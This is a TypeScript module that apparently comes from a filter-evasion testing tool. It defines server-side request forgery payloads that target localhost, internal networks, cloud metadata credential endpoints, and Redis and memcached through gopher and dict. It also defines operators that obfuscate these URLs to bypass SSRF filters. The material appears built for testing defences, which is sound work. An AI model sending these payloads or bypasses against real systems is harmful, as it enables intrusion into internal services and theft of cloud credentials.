import { commonEncodings } from '../encodings.ts';
import { type EvasionClass, encoding, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  'http://127.0.0.1/admin',
  'http://127.0.0.1:8080/',
  'http://localhost/server-status',
  'http://localhost:9200/_search',
  'http://169.254.169.254/latest/meta-data/',
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'http://[::1]/',
  'http://[::1]:6379/',
  'https://127.0.0.1/',
  'http://0.0.0.0:3000/',
  'http://10.0.0.5/internal',
  'http://192.168.1.1/setup',
  'gopher://127.0.0.1:6379/_INFO',
  'dict://127.0.0.1:11211/stats',
  'http://169.254.170.2/v2/credentials',
  'http://100.100.100.200/latest/meta-data/',
  'ftp://127.0.0.1/',
];

/** The four numbers of an address, or null. */
function numbersOf(payload: string): readonly number[] | null {
  const found = /\/\/(0|[1-9]\d*)\.(0|[1-9]\d*)\.(0|[1-9]\d*)\.(0|[1-9]\d*)(?=[:/])/.exec(payload);
  return found === null ? null : found.slice(1).map(Number);
}

/** Writes the address another way. */
function rewritten(payload: string, write: (numbers: readonly number[]) => string): string | null {
  const numbers = numbersOf(payload);
  return numbers === null ? null : payload.replace(numbers.join('.'), () => write(numbers));
}

function whole(numbers: readonly number[]): number {
  return numbers.reduce((sum, number) => sum * 256 + number, 0);
}

/** One decimal number. */
const decimal: Operator = syntax('decimal-address', 'CAPEC-4 numeric notations', (payload) =>
  rewritten(payload, (numbers) => String(whole(numbers))),
);

/** One hexadecimal number. */
const hexadecimal: Operator = syntax('hex-address', 'CAPEC-4 numeric notations', (payload, random) =>
  rewritten(
    payload,
    (numbers) => `0x${random.below(2) === 0 ? '' : '00'}${whole(numbers).toString(16).padStart(8, '0')}`,
  ),
);

/** Octal numbers with zeros in front. */
const octal: Operator = syntax('octal-address', 'CAPEC-4 numeric notations', (payload, random) =>
  rewritten(payload, (numbers) =>
    numbers.map((number) => `0${'0'.repeat(random.below(3))}${number.toString(8)}`).join('.'),
  ),
);

/** Numbers of several notations in one address. */
const mixed: Operator = syntax('mixed-address', 'CAPEC-4 numeric notations', (payload, random) =>
  rewritten(payload, (numbers) =>
    numbers
      .map((number) => random.pick([String(number), `0x${number.toString(16)}`, `0${number.toString(8)}`]))
      .join('.'),
  ),
);

/** Fewer parts: the last one fills the rest. */
const fewerParts: Operator = syntax('fewer-parts', 'CAPEC-4 numeric notations', (payload, random) =>
  rewritten(payload, (numbers) => {
    const [a = 0, b = 0, c = 0, d = 0] = numbers;
    return random.below(2) === 0 ? `${a}.${(b << 16) | (c << 8) | d}` : `${a}.${b}.${(c << 8) | d}`;
  }),
);

/** The address within IPv6. */
const mapped: Operator = syntax('mapped-address', 'CAPEC-4 IPv4 in IPv6', (payload, random) =>
  rewritten(payload, (numbers) => {
    const [a = 0, b = 0, c = 0, d = 0] = numbers;
    const hex = `${((a << 8) | b).toString(16)}:${((c << 8) | d).toString(16)}`;
    return random.pick([`[::ffff:${numbers.join('.')}]`, `[::ffff:${hex}]`, `[0:0:0:0:0:ffff:${hex}]`]);
  }),
);

/** Digits in circles, which normalisation folds. */
const circled: Operator = encoding('circled-digits', 'CAPEC-71 look-alike digits', 0, (payload) =>
  rewritten(payload, (numbers) =>
    numbers
      .join('.')
      .replaceAll(/\d/g, (digit) => (digit === '0' ? '\u24ea' : String.fromCharCode(0x2460 + Number(digit) - 1))),
  ),
);

/** A name that resolves to the address it holds. */
const wildcardName: Operator = syntax('wildcard-name', 'CAPEC-4 names that hold an address', (payload, random) =>
  rewritten(
    payload,
    (numbers) =>
      `${random.pick(['', `${random.word(3)}.`])}${numbers.join('.')}.${random.pick(['nip.io', 'sslip.io'])}`,
  ),
);

/** Credentials in front of the host. */
const userInfo: Operator = syntax('user-info', 'CAPEC-664 confusing authority', (payload, random) =>
  payload.replace(
    /(?<=:)[/\\]{2,}/,
    (slashes) =>
      slashes + random.pick([`${random.word(4)}@`, 'www.example.com@', `${random.word(3)}:${random.word(3)}@`]),
  ),
);

/** A dot behind the host. */
const trailingDot: Operator = syntax('trailing-dot', 'CAPEC-664 absolute names', (payload) =>
  payload.replace(/(?<=\/\/[a-z0-9.]+)(?=[:/])/, '.'),
);

/** Letters of scheme and host in either case. */
const letterCase: Operator = syntax('letter-case', 'CAPEC-66 mixed case', (payload, random) =>
  payload.replace(/^[a-z]+:\/\/[^/]*/, (head) =>
    [...head].map((letter) => (random.below(2) === 0 ? letter.toUpperCase() : letter)).join(''),
  ),
);

/** A port, the scheme's own or another. */
const port: Operator = syntax('port', 'CAPEC-664 ports', (payload, random) =>
  /\/\/[^/]*:\d+/.test(payload)
    ? null
    : payload.replace(/(?<=\/\/(?:\[[^\]]*\]|[^/:[]+))(?=\/)/, () => `:${random.pick(['80', '443', '22', '5000'])}`),
);

/** More slashes, or the other kind. */
const slashes: Operator = syntax('slashes', 'CAPEC-664 slashes', (payload, random) =>
  /^https?:/.test(payload) ? payload.replace('://', () => `:${random.pick(['///', '\\\\', '/\\', '////'])}`) : null,
);

/** What follows the host is the service's to ignore. */
const demandedEnd: Operator = syntax(
  'demanded-end',
  'CAPEC-664 suffixes',
  (payload, random) =>
    `${payload}${random.pick(['?x=.jpg', '#.example.com', '?https://www.example.com', '#@example.com/'])}`,
);

/** Blanks in front, which libraries trim. */
const leadingBlank: Operator = syntax(
  'leading-blank',
  'CAPEC-664 white space',
  (payload, random) => `${random.pick([' ', '\t', '\n', '  '])}${payload}`,
);

/** The host percent-encoded, which URL libraries undo by themselves. */
const escapedHost: Operator = encoding('escaped-host', 'CAPEC-72 URL encoding of the host', 1, (payload, random) =>
  payload.replace(/(?<=\/\/)[a-z0-9.]+/, (host) =>
    [...host].map((letter) => (random.below(2) === 0 ? letter : `%${letter.charCodeAt(0).toString(16)}`)).join(''),
  ),
);

/** Server-side request forgery: the machine itself, its network, metadata services. */
export const ssrf: EvasionClass = {
  id: 'ssrf',
  payloads,
  operators: [
    decimal,
    hexadecimal,
    octal,
    mixed,
    fewerParts,
    mapped,
    circled,
    wildcardName,
    userInfo,
    trailingDot,
    letterCase,
    port,
    slashes,
    demandedEnd,
    leadingBlank,
    escapedHost,
    ...commonEncodings,
  ],
};
